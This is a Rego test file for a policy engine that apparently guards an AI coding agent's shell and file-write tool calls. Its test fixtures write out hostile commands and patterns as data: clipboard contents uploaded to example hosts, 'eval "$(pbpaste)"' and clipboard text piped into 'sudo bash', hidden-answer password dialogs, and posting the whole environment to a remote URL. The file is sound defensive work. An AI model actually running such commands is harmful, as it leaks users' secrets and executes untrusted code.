package hookward.code_test

import data.hookward.main as rules

sh_input(shell) := {
	"event": {"kind": "PreToolUse", "tool": {"name": "Bash", "kind": "shell", "command": "x", "input": {"command": "x"}}},
	"facts": {"home": "/home/dev", "project_dir": "/home/dev/p", "paths": [], "shell": shell},
	"config": {},
}

ids(inp) := {d.id: d.decision | some d in rules.decision with input as inp}

up(program, target, source) := {"program": program, "target": target, "source": source, "evidence": "x"}

test_clipboard_piped_out_denied if {
	ids(sh_input({"uploads": [up("curl", "https://paste.example.net/documents", "<piped from pbpaste>")]}))["shell/clipboard-upload"] == "deny"
	ids(sh_input({"uploads": [up("curl", "https://x.example.org/c", "<piped from wl-paste>")]}))["shell/clipboard-upload"] == "deny"
	ids(sh_input({"uploads": [up("osascript", "https://clip.example.app/c", "<clipboard>")]}))["shell/clipboard-upload"] == "deny"
}

test_clipboard_to_loopback_or_other_output_quiet if {
	not ids(sh_input({"uploads": [up("curl", "http://127.0.0.1:8080/paste", "<piped from pbpaste>")]}))["shell/clipboard-upload"]
	not ids(sh_input({"uploads": [up("curl", "https://x.example.org/c", "<piped from jq>")]}))["shell/clipboard-upload"]
	not ids(sh_input({"uploads": [up("curl", "https://x.example.org/c", null)]}))["shell/clipboard-upload"]
}

test_password_dialog_denied if {
	v := {"class": "password_prompt", "program": "osascript", "verb": "display dialog", "detail": "with hidden answer", "evidence": "x"}
	ids(sh_input({"verbs": [v]}))["shell/password-dialog"] == "deny"
}

test_other_verb_classes_are_no_password_dialog if {
	v := {"class": "url_install", "program": "wp", "verb": "plugin install", "detail": "https://x", "evidence": "x"}
	not ids(sh_input({"verbs": [v]}))["shell/password-dialog"]
}

wr_input(kind, script) := {
	"event": {"kind": "PreToolUse", "tool": {"name": "Edit", "kind": "file_write"}},
	"facts": {"home": "/home/dev", "project_dir": "/home/dev/p", "paths": [], "written_exec": [{"kind": kind, "path": "/home/dev/p/app/layout.tsx", "line": 1, "evidence": "x", "script": script}]},
	"config": {},
}

test_external_script_asks_not_denies if {
	got := ids(wr_input("external_script", false))
	got["path/external-script"] == "ask"
	not got["path/planted-exec"]
	not got["path/planted-exec-script"]
}

test_unsigned_update_feed_denied if {
	ids(wr_input("update_feed", false))["path/planted-exec"] == "deny"
}

dyn(origin, ev) := {"interpreter": "eval", "origin": origin, "source": null, "wrappers": [], "evidence": ev}

test_clipboard_run_as_code_denied if {
	ids(sh_input({"dynamic_code": [dyn("substitution", "eval \"$(pbpaste)\"")]}))["shell/clipboard-exec"] == "deny"
	ids(sh_input({"dynamic_code": [dyn("stdin", "wl-paste --no-newline | sudo bash")]}))["shell/clipboard-exec"] == "deny"
	ids(sh_input({"dynamic_code": [dyn("stdin", "xclip -o -selection clipboard | python3")]}))["shell/clipboard-exec"] == "deny"
}

test_other_dynamic_code_is_no_clipboard if {
	not ids(sh_input({"dynamic_code": [dyn("substitution", "eval \"$(ssh-agent -s)\"")]}))["shell/clipboard-exec"]
	not ids(sh_input({"dynamic_code": [dyn("stdin", "cat setup.sh | bash")]}))["shell/clipboard-exec"]
	not ids(sh_input({"dynamic_code": [dyn("variable", "eval \"$PBPASTE_CMD\"")]}))["shell/clipboard-exec"]
}

test_one_named_secret_in_a_request_is_not_the_whole_environment if {
	u := {"program": "python3", "target": "https://huggingface.co/api/whoami-v2", "source": "<sent secret HF_TOKEN>", "evidence": "requests.get(URL, params={'t': os.environ['HF_TOKEN']})"}
	not ids(sh_input({"uploads": [u]}))["shell/environment-exfiltration"]
	w := {"program": "python3", "target": "https://x.example.net/e", "source": "<environment>", "evidence": "requests.post(URL, json=dict(os.environ))"}
	ids(sh_input({"uploads": [w]}))["shell/environment-exfiltration"] == "deny"
}
